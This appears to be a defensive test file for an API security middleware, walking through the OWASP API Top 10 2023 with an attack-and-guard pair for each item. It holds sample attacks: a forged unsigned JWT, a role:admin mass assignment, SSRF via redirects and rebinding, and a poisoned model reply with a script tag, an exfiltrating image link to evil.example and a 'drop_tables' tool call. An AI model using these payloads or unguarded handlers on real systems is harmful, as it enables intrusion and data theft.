// OWASP API Security Top 10, 2023: for each, an attack that works without the guard and fails with it, and an ordinary
// use that passes. Everything over HTTP, with the packages as an app mounts them.
import { randomBytes } from 'node:crypto';
import type { RequestListener } from 'node:http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { apiKeyStrategy, authenticate, createPolicy, listRoutes } from '@sallyport/authz';
import type { AuthenticateOptions, ProtectRoutesOptions, RoutePolicy } from '@sallyport/authz';
import { authenticate as koaAuthenticate } from '@sallyport/authz/koa';
import { exchangeOf } from '@sallyport/core';
import type { GuardEvent } from '@sallyport/core';
import { createKeys } from '@sallyport/keys';
import { promptGuard } from '@sallyport/prompt-guard';
import type { PromptGuardOptions } from '@sallyport/prompt-guard';
import { promptGuard as koaPromptGuard } from '@sallyport/prompt-guard/koa';
import { byPrincipal, quota } from '@sallyport/quota';
import type { QuotaOptions } from '@sallyport/quota';
import { quota as koaQuota } from '@sallyport/quota/koa';
import { createRelay, relay } from '@sallyport/relay';
import type { RelayOptions } from '@sallyport/relay';
import { relay as koaRelay } from '@sallyport/relay/koa';
import { responseValidator } from '@sallyport/response-validator';
import type { ResponseValidatorOptions } from '@sallyport/response-validator';
import { responseValidator as koaResponseValidator } from '@sallyport/response-validator/koa';
import express from 'express';
import { audience, claims, encode, issuer, secret, token } from '../../packages/authz/test/tokens.ts';
import { listen } from '../support/frameworks.ts';
import { routedFrameworks } from '../support/routed-api.ts';
import type { Api, OpenRoutes, Pair, RouteCall } from '../support/routed-api.ts';

const keys = createKeys({ environment: 'live', pepper: randomBytes(32) });
const credential: Record<'alice' | 'bob' | 'root' | 'robot', string> = { alice: '', bob: '', root: '', robot: '' };
beforeAll(async () => {
  const issue = async (owner: string, more: object): Promise<string> => (await keys.issue({ owner, ...more })).key;
  credential.alice = await issue('alice', { kind: 'user', roles: ['customer'] });
  credential.bob = await issue('bob', { kind: 'user', roles: ['customer'] });
  credential.root = await issue('root', { kind: 'user', roles: ['admin'], zones: ['public', 'admin'] });
  credential.robot = await issue('robot', { kind: 'service', roles: ['customer', 'buyer'] });
});

afterAll(() => keys.close());

const own = { ownerId: { $principal: 'id' } } as const;
const policy = createPolicy({
  roles: {
    buyer: { kinds: ['user'], can: [{ action: 'buy', resource: 'Ticket' }] },
    customer: {
      inherits: ['buyer'],
      can: [
        { action: 'read', resource: 'Order', conditions: own },
        { action: 'read', resource: 'User', fields: ['id', 'name'] },
        { action: 'update', resource: 'User', fields: ['name', 'address.*'], conditions: own },
        { action: 'use', resource: 'Chat' },
        { action: 'export', resource: 'Order' },
      ],
    },
    admin: { inherits: ['customer'], can: [{ action: 'manage', resource: 'User' }] },
  },
});

const authenticated = (options: Partial<AuthenticateOptions> = {}): Pair => {
  const all = { strategies: [apiKeyStrategy({ keys })], ...options };
  return { connect: authenticate(all), koa: koaAuthenticate(all) };
};
const limited = (options: Omit<QuotaOptions, 'key'>): Pair => {
  const all = { key: byPrincipal, ...options };
  return { connect: quota(all), koa: koaQuota(all) };
};
const inspected = (options: PromptGuardOptions = {}): Pair => {
  return { connect: promptGuard(options), koa: koaPromptGuard(options) };
};
const validated = (options: ResponseValidatorOptions = {}): Pair => {
  return { connect: responseValidator(options), koa: koaResponseValidator(options) };
};

const closing: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0).toReversed()) await close();
});
async function serveAlone(listener: RequestListener): Promise<string> {
  const { url, close } = await listen(listener);
  closing.push(close);
  return url;
}
const relayed = (options: Partial<RelayOptions>): Pair => {
  const made = createRelay({ provider: 'openai', keys: [['sk', 'k'.repeat(30)].join('-')], maxRetries: 0, ...options });
  closing.push(() => made.close({ graceMs: 0 }));
  return { connect: relay(made), koa: koaRelay(made) };
};

interface Answer {
  readonly status: number;
  readonly text: string;
  readonly json: Record<string, unknown>;
  readonly headers: Headers;
}
type Send = (line: string, who?: string, body?: unknown, headers?: Record<string, string>) => Promise<Answer>;

async function serve(open: OpenRoutes, api: Api): Promise<Send> {
  const url = await serveAlone(open(api).listener);
  return async (line, who, body, more = {}) => {
    const [method = '', path = ''] = line.split(' ');
    const headers = {
      ...(who === undefined ? {} : { authorization: `Bearer ${who}` }),
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...more,
    };
    const init = body === undefined ? { method, headers } : { method, headers, body: JSON.stringify(body) };
    const reply = await fetch(`${url}${path}`, init);
    const text = await reply.text();
    const isJson = reply.headers.get('content-type')?.includes('json') === true && text !== '';
    const json = (isJson ? JSON.parse(text) : {}) as Record<string, unknown>;
    return { status: reply.status, text, json, headers: reply.headers };
  };
}

const table = (routes: readonly RoutePolicy[], more: Partial<ProtectRoutesOptions> = {}): ProtectRoutesOptions => {
  return { policy, routes, ...more };
};
const statuses = async (answers: Promise<Answer>[]): Promise<number[]> => {
  return (await Promise.all(answers)).map(({ status }) => status);
};
const completion = (content: string, more: object = {}): object => {
  const message = { role: 'assistant', content, ...more };
  return { id: 'c', object: 'chat.completion', choices: [{ index: 0, message, finish_reason: 'stop' }] };
};
const chat = (content: string): object => ({ model: 'm', messages: [{ role: 'user', content }] });

describe.each(routedFrameworks)('OWASP API Security Top 10 2023 on %s', (_name, open) => {
  describe('API1 broken object level authorization', () => {
    const orders = new Map([
      ['1', { ownerId: 'alice', total: 10 }],
      ['2', { ownerId: 'bob', total: 20 }],
    ]);
    const routes = { 'GET /orders/:id': { handler: ({ params }: RouteCall) => orders.get(params['id'] ?? '') } };
    const rows: RoutePolicy[] = [
      {
        method: 'GET',
        path: '/orders/:id',
        action: 'read',
        resource: 'Order',
        resourceOf: async (_exchange, { id }) => orders.get(String(id)),
      },
    ];

    it('without the guard, one customer reads the order of another', async () => {
      const send = await serve(open, { guards: [authenticated()], routes });
      expect((await send('GET /orders/2', credential.alice)).json).toEqual({ ownerId: 'bob', total: 20 });
    });

    it('with it, only their own, and does not learn which others there are', async () => {
      const send = await serve(open, { guards: [authenticated()], routes, table: table(rows) });
      expect((await send('GET /orders/1', credential.alice)).json).toEqual({ ownerId: 'alice', total: 10 });
      expect((await send('GET /orders/2', credential.bob)).status).toBe(200);
      const [foreign, none] = [
        await send('GET /orders/2', credential.alice),
        await send('GET /orders/3', credential.alice),
      ];
      expect([foreign.status, none.status]).toEqual([403, 403]);
      expect({ ...foreign.json, instance: '' }).toEqual({ ...none.json, instance: '' });
      for (const path of ['/orders/%32', '/ORDERS/2', '/orders/2/', '/orders/2?id=1', '/orders/1/../2']) {
        expect([path, (await send(`GET ${path}`, credential.alice)).status]).toEqual([path, 403]);
      }
      expect((await send('HEAD /orders/2', credential.alice)).status).toBe(403);
    });
  });

  describe('API2 broken authentication', () => {
    const routes = { 'GET /me': { handler: ({ request }: RouteCall) => ({ id: exchangeOf(request)?.principal?.id }) } };
    const jwt = { key: secret, algorithms: ['HS256' as const], issuer, audience };
    const forged = `${encode({ alg: 'none', typ: 'JWT' })}.${encode(claims({ sub: 'alice' }))}.`;

    it('without the guard, a token that nobody signed is believed', async () => {
      // As it is found in the wild: decoded, never verified.
      const handler = ({ request }: RouteCall): object => {
        const payload = request.headers.authorization?.split('.')[1] ?? '';
        return { id: (JSON.parse(Buffer.from(payload, 'base64url').toString()) as { sub: string }).sub };
      };
      const send = await serve(open, { routes: { 'GET /me': { handler } } });
      expect((await send('GET /me', forged)).json).toEqual({ id: 'alice' });
    });

    it('with it, forged, expired and foreign tokens are refused in the same words, and guessing is slowed down', async () => {
      const send = await serve(open, { guards: [authenticated({ jwt, throttle: { perAddress: 4 } })], routes });
      expect((await send('GET /me', token(claims({ sub: 'alice' })))).json).toEqual({ id: 'alice' });
      const bad = [forged, token(claims({ exp: 1 })), token(claims({ aud: 'other' })), `${token()}x`];
      const answers: Answer[] = [];
      for (const one of bad) answers.push(await send('GET /me', one));
      expect(answers.map(({ status }) => status)).toEqual([401, 401, 401, 401]);
      expect(new Set(answers.map(({ json }) => json['detail'])).size).toBe(1);
      expect(answers[0]?.headers.get('www-authenticate')).toContain('invalid_token');
      for (let guess = 0; guess < 4; guess++) await send('GET /me', `sp_live_${randomBytes(20).toString('hex')}`);
      const slowed = await send('GET /me', `sp_live_${randomBytes(20).toString('hex')}`);
      expect([slowed.status, slowed.headers.has('retry-after')]).toEqual([429, true]);
    });
  });

  describe('API3 broken object property level authorization', () => {
    const fresh = (): Record<string, unknown> => ({
      id: 'u-7',
      ownerId: 'alice',
      name: 'Al',
      hash: 'HASHMARK',
      role: 'customer',
    });

    it('without the guard, a reply shows every field, and a body sets every field', async () => {
      const user = fresh();
      const routes = {
        'GET /users/:id': { handler: () => user },
        'PATCH /users/:id': { handler: ({ body }: RouteCall) => Object.assign(user, body) },
      };
      const send = await serve(open, { guards: [authenticated()], routes });
      expect((await send('GET /users/7', credential.bob)).text).toContain('HASHMARK');
      await send('PATCH /users/7', credential.alice, { role: 'admin' });
      expect(user['role']).toBe('admin');
    });

    it('with it, a reply is cut to the permitted fields, and a body with another field changes nothing', async () => {
      const user = fresh();
      const shown = ({ request }: RouteCall): object | undefined =>
        policy.pick(exchangeOf(request)?.principal, 'read', 'User', user);
      const routes = {
        'GET /users/:id': { guards: [], handler: shown },
        'PATCH /users/:id': {
          handler: (call: RouteCall) => {
            Object.assign(user, call.body);
            return shown(call);
          },
        },
      };
      const rows: RoutePolicy[] = [
        { method: 'GET', path: '/users/:id', action: 'read', resource: 'User', fieldsOf: () => ['id'] },
        {
          method: 'PATCH',
          path: '/users/:id',
          action: 'update',
          resource: 'User',
          resourceOf: () => user,
          fieldsOf: ({ body }) => Object.keys(body as object),
        },
      ];
      const send = await serve(open, { guards: [authenticated()], routes, table: table(rows) });
      expect((await send('GET /users/7', credential.bob)).json).toEqual({ id: 'u-7', name: 'Al' });
      for (const body of [{ role: 'admin' }, { name: 'x', role: 'admin' }, {}, { constructor: 1, hash: '' }]) {
        expect((await send('PATCH /users/7', credential.alice, body)).status).toBe(403);
      }
      expect(user).toEqual(fresh());
      expect((await send('PATCH /users/7', credential.bob, { name: 'Bo' })).status).toBe(403);
      expect((await send('PATCH /users/7', credential.alice, { name: 'Alice' })).json).toEqual({
        id: 'u-7',
        name: 'Alice',
      });
    });
  });

  describe('API4 unrestricted resource consumption', () => {
    let calls = 0;
    const routes = {
      'POST /chat': {
        handler: () => {
          calls++;
          return completion('Hello.');
        },
      },
    };

    it('without the guards, one client calls the model as often and with as much as it likes', async () => {
      calls = 0;
      const send = await serve(open, { guards: [authenticated()], routes });
      const many = Array.from({ length: 20 }, () => send('POST /chat', credential.alice, chat('Hi.')));
      expect(new Set(await statuses(many))).toEqual(new Set([200]));
      expect((await send('POST /chat', credential.alice, chat('word '.repeat(40_000)))).status).toBe(200);
      expect(calls).toBe(21);
    });

    it('with them, requests and tokens are counted, and what is too large never gets there', async () => {
      calls = 0;
      const limits = [{ unit: 'requests', limit: 5, windowMs: 60_000 }] as const;
      const guards = [authenticated(), limited({ limits }), inspected({ maxCharacters: 1000 })];
      const send = await serve(open, { guards, routes });
      expect((await send('POST /chat', credential.alice, chat('word '.repeat(40_000)))).status).toBe(413);
      expect(calls).toBe(0);
      const codes = await statuses(
        Array.from({ length: 20 }, () => send('POST /chat', credential.alice, chat('When are you open?'))),
      );
      expect(codes.filter((code) => code === 200)).toHaveLength(5);
      expect(codes.filter((code) => code === 429)).toHaveLength(15);
      expect(calls).toBe(5);
      expect((await send('POST /chat', credential.bob, chat('When are you open?'))).status).toBe(200);
    });
  });

  describe('API5 broken function level authorization', () => {
    let deleted: string[] = [];
    const routes = {
      'DELETE /admin/users/:id': { handler: ({ params }: RouteCall) => deleted.push(params['id'] ?? '') },
      'GET /users/:id': { handler: () => ({}) },
    };
    const rows: RoutePolicy[] = [
      { method: 'DELETE', path: '/admin/users/:id', zone: 'admin', action: 'delete', resource: 'User' },
      { method: 'GET', path: '/users/:id', action: 'read', resource: 'User', fieldsOf: () => ['id'] },
    ];

    it('without the guard, whoever knows the path is an administrator', async () => {
      deleted = [];
      const send = await serve(open, { guards: [authenticated()], routes });
      expect((await send('DELETE /admin/users/7', credential.alice)).status).toBe(200);
      expect(deleted).toEqual(['7']);
    });

    it('with it, it takes the role and a credential of the zone', async () => {
      deleted = [];
      const outside = (await keys.issue({ owner: 'root', kind: 'user', roles: ['admin'] })).key;
      const send = await serve(open, { guards: [authenticated()], routes, table: table(rows) });
      for (const who of [credential.alice, credential.robot, outside]) {
        expect((await send('DELETE /admin/users/7', who)).status).toBe(403);
        expect((await send('DELETE /ADMIN/users/7/', who)).status).toBe(403);
        await send('POST /admin/users/7', who, {}, { 'x-http-method-override': 'DELETE' });
      }
      expect((await send('DELETE /admin/users/7')).status).toBe(401);
      expect(deleted).toEqual([]);
      expect((await send('DELETE /admin/users/7', credential.root)).status).toBe(200);
      expect((await send('GET /users/7', credential.alice)).status).toBe(200);
      expect(deleted).toEqual(['7']);
    });
  });

  describe('API6 unrestricted access to sensitive business flows', () => {
    let sold = 0;
    const routes = { 'POST /tickets': { handler: () => ({ sold: ++sold }) } };

    it('without the guards, a script buys everything there is', async () => {
      sold = 0;
      const send = await serve(open, { guards: [authenticated()], routes });
      await Promise.all(Array.from({ length: 20 }, () => send('POST /tickets', credential.robot, {})));
      expect(sold).toBe(20);
    });

    it('with them, services may not buy, and people no more than a few', async () => {
      sold = 0;
      const limits = [{ unit: 'requests', limit: 4, windowMs: 3_600_000, name: 'tickets' }] as const;
      const row: RoutePolicy = { method: 'POST', path: '/tickets', action: 'buy', resource: 'Ticket' };
      const guarded = { 'POST /tickets': { ...routes['POST /tickets'], guards: [limited({ limits })] } };
      const send = await serve(open, { guards: [authenticated()], routes: guarded, table: table([row]) });
      const buy = (who: string): Promise<number[]> =>
        statuses(Array.from({ length: 20 }, () => send('POST /tickets', who, {})));
      expect(new Set(await buy(credential.robot))).toEqual(new Set([403]));
      expect(sold).toBe(0);
      expect((await buy(credential.alice)).filter((code) => code === 200)).toHaveLength(4);
      expect((await send('POST /tickets', credential.bob, {})).status).toBe(200);
      expect(sold).toBe(5);
    });
  });

  describe('API7 server side request forgery', () => {
    /** An inner server with something worth stealing, and an upstream that sends people there. */
    async function places(): Promise<{ inner: string; upstream: string; place: string; stolen: () => number }> {
      let visits = 0;
      const inner = await serveAlone((_request, response) => {
        visits++;
        response.end(JSON.stringify(completion('INNERMARK')));
      });
      const upstream = await serveAlone((request, response) => {
        if (request.url?.includes('redirect') !== true) {
          response.setHeader('content-type', 'application/json');
          response.end(JSON.stringify(completion('Hello.')));
        } else response.writeHead(307, { location: inner }).end();
      });
      return { inner, upstream, place: upstream.slice('http://'.length), stolen: () => visits };
    }

    it('without the relay, the body, a redirect or a name leads the server into its own network', async () => {
      const { inner, upstream, stolen } = await places();
      const handler = async ({ body }: RouteCall): Promise<object> => {
        const reply = await fetch(String(body['url']), { method: 'POST', body: '{}' });
        return { text: await reply.text() };
      };
      const send = await serve(open, { guards: [authenticated()], routes: { 'POST /fetch': { handler } } });
      for (const url of [inner, `${upstream}/redirect`, inner.replace('127.0.0.1', 'localhost')]) {
        expect((await send('POST /fetch', credential.alice, { url })).text).toContain('INNERMARK');
      }
      expect(stolen()).toBe(3);
    });

    it('with it, none of them does', async () => {
      const { inner, upstream, place, stolen } = await places();
      const path = '/v1/chat/completions';
      const routes = {
        [`POST ${path}`]: { answer: relayed({ baseUrl: upstream, allowPrivate: [place] }) },
        'POST /hop': { answer: relayed({ baseUrl: upstream, allowPrivate: [place], path: '/redirect' }) },
        'POST /named': {
          answer: relayed({
            baseUrl: `https://model.example:${new URL(inner).port}`,
            path,
            lookup: (_host, _options, done) => done(null, [{ address: '127.0.0.1', family: 4 }]),
          }),
        },
      };
      const send = await serve(open, { guards: [authenticated()], routes });
      expect((await send(`POST ${path}`, credential.alice, chat('Hi.'))).text).toContain('Hello.');
      const aside = { ...chat('Hi.'), url: inner, base_url: inner, baseUrl: inner };
      const headers = { 'x-forwarded-host': new URL(inner).host, forwarded: `host=${new URL(inner).host}` };
      expect((await send(`POST ${path}?url=${inner}`, credential.alice, aside, headers)).text).not.toContain(
        'INNERMARK',
      );
      for (const line of ['POST /hop', 'POST /named']) {
        const answer = await send(line, credential.alice, chat('Hi.'));
        expect([line, answer.status >= 500, answer.text.includes(new URL(inner).host)]).toEqual([line, true, false]);
      }
      expect(stolen()).toBe(0);
      expect(() => createRelay({ provider: 'openai', keys: ['k'.repeat(20)], baseUrl: inner })).toThrow(/baseUrl/);
    });
  });

  describe('API8 security misconfiguration', () => {
    const fail = (): never => {
      throw new Error('connect ECONNREFUSED postgres://app:PASSMARK@db.internal/app');
    };

    it('without the guards, an error shows what the server is made of, and a route without a policy is open', async () => {
      const handler = (): object => {
        try {
          return fail();
        } catch (error) {
          return { error: (error as Error).stack };
        }
      };
      const send = await serve(open, {
        guards: [authenticated()],
        routes: { 'GET /x': { handler } },
        bareErrors: true,
      });
      const { text } = await send('GET /x', credential.alice);
      expect(text).toContain('PASSMARK');
      expect(text).toMatch(/owasp\.test\.ts/);
    });

    it('with them, refusals and errors say nothing, are not cached or sniffed, and wrong options do not start', async () => {
      const routes = {
        'GET /x': { handler: fail },
        'GET /y': { handler: () => ({ ok: true }) },
        'GET /z': { handler: fail },
      };
      const rows: RoutePolicy[] = [
        { method: 'GET', path: '/x', action: 'use', resource: 'Chat', resourceOf: fail },
        { method: 'GET', path: '/y', action: 'use', resource: 'Chat' },
        { method: 'GET', path: '/z', action: 'use', resource: 'Chat' },
      ];
      const send = await serve(open, { guards: [authenticated()], routes, table: table(rows) });
      expect((await send('GET /y', credential.alice)).json).toEqual({ ok: true });
      const answers = [
        await send('GET /x', credential.alice),
        await send('GET /z', credential.alice),
        await send('GET /y', credential.alice.slice(0, -1)),
        await send('GET /y'),
      ];
      expect(answers.map(({ status }) => status)).toEqual([503, 500, 401, 401]);
      for (const { text, headers } of answers) {
        expect(text).not.toMatch(/PASSMARK|postgres|node_modules|\.[cm]?[jt]s:|Chat|customer/);
        expect(headers.get('content-type')).toContain('application/problem+json');
        expect(headers.get('cache-control')).toBe('no-store');
        expect(headers.get('x-content-type-options')).toBe('nosniff');
      }
      for (const bad of [{ strict: 'no' }, { mode: 'off' }, { strictt: false }, { routes: [{ path: '/x' }] }]) {
        expect(() => open({ routes, table: { policy, ...bad } as unknown as ProtectRoutesOptions })).toThrow(TypeError);
      }
    });
  });

  describe('API9 improper inventory management', () => {
    const routes = {
      'GET /v2/export': { handler: () => ({ orders: 1 }) },
      // The old version that everybody has forgotten.
      'GET /v1/export': { handler: () => ({ orders: 'DUMPMARK' }) },
      'GET /debug': { handler: () => ({ env: 'DUMPMARK' }) },
    };
    const rows: RoutePolicy[] = [{ method: 'GET', path: '/v2/export', action: 'export', resource: 'Order' }];

    it('without the guard, old versions and debug routes answer everybody', async () => {
      const send = await serve(open, { routes });
      for (const line of ['GET /v1/export', 'GET /debug']) expect((await send(line)).text).toContain('DUMPMARK');
    });

    it('with it, they are listed and reported at start, and answer nobody', async () => {
      const events: GuardEvent[] = [];
      const onEvent = (event: GuardEvent): void => void events.push(event);
      const found = open({ routes, table: table(rows, { onEvent }) }).uncovered;
      const names = found.filter(({ method }) => method === 'GET').map(({ path }) => path);
      expect(names).toEqual(['/v1/export', '/debug']);
      expect(events.map(({ type, details }) => `${type} ${details['path']}`)).toEqual(
        found.map(({ path }) => `authorize.uncovered ${path}`),
      );
      expect(() => open({ routes, table: table(rows, { throwUncovered: true }) })).toThrow('GET /v1/export');
      const send = await serve(open, {
        guards: [authenticated()],
        routes,
        table: table(rows, { uncoveredStatus: 404 }),
      });
      for (const line of ['GET /v1/export', 'GET /debug', 'GET /V1/Export/', 'HEAD /debug', 'GET /v1/%65xport']) {
        const { status, text } = await send(line, credential.root);
        expect([line, status, text.includes('DUMPMARK')]).toEqual([line, 404, false]);
      }
      expect((await send('GET /v2/export', credential.alice)).json).toEqual({ orders: 1 });
    });
  });

  describe('API10 unsafe consumption of APIs', () => {
    const path = '/v1/chat/completions';
    const poisoned = completion('Hi <script>steal()</script> ![x](https://evil.example/?q=data)', {
      tool_calls: [{ id: 't', type: 'function', function: { name: 'drop_tables', arguments: '{}' } }],
    });
    async function upstream(): Promise<string> {
      return serveAlone((request, response) => {
        let sent = '';
        request.on('data', (chunk: Buffer) => (sent += chunk.toString()));
        request.on('end', () => {
          response.setHeader('content-type', 'application/json').setHeader('set-cookie', 'session=evil');
          response.end(JSON.stringify(sent.includes('poison') ? poisoned : completion('We open at nine.')));
        });
      });
    }

    it('without the guards, what another API answers goes straight to the client', async () => {
      const url = await upstream();
      const handler = async ({ body }: RouteCall): Promise<unknown> => {
        return (await fetch(`${url}${path}`, { method: 'POST', body: JSON.stringify(body) })).json();
      };
      const send = await serve(open, { guards: [authenticated()], routes: { [`POST ${path}`]: { handler } } });
      const { text } = await send(`POST ${path}`, credential.alice, chat('poison'));
      for (const mark of ['<script>', 'evil.example', 'drop_tables']) expect(text).toContain(mark);
    });

    it('with them, scripts, images and tool calls of strangers do not arrive, nor their cookies', async () => {
      const url = await upstream();
      const answer = relayed({ baseUrl: url, allowPrivate: [url.slice('http://'.length)] });
      const allowed = (principal: Parameters<typeof policy.can>[0], name: string): boolean =>
        policy.can(principal, 'invoke', name);
      const guards = [validated({ toolCalls: { allowed } })];
      const send = await serve(open, { guards: [authenticated()], routes: { [`POST ${path}`]: { guards, answer } } });
      const bad = await send(`POST ${path}`, credential.alice, chat('poison'));
      for (const mark of ['<script>', 'evil.example', 'drop_tables']) expect(bad.text).not.toContain(mark);
      expect(bad.headers.has('set-cookie')).toBe(false);
      const good = await send(`POST ${path}`, credential.alice, chat('When are you open?'));
      expect([good.status, good.text.includes('We open at nine.')]).toEqual([200, true]);
      expect(good.headers.has('set-cookie')).toBe(false);
    });
  });
});

it('sees the same list from an app and from its router', () => {
  const app = express();
  app.get('/a', () => undefined);
  expect(listRoutes(app)).toEqual(listRoutes(app.router));
});
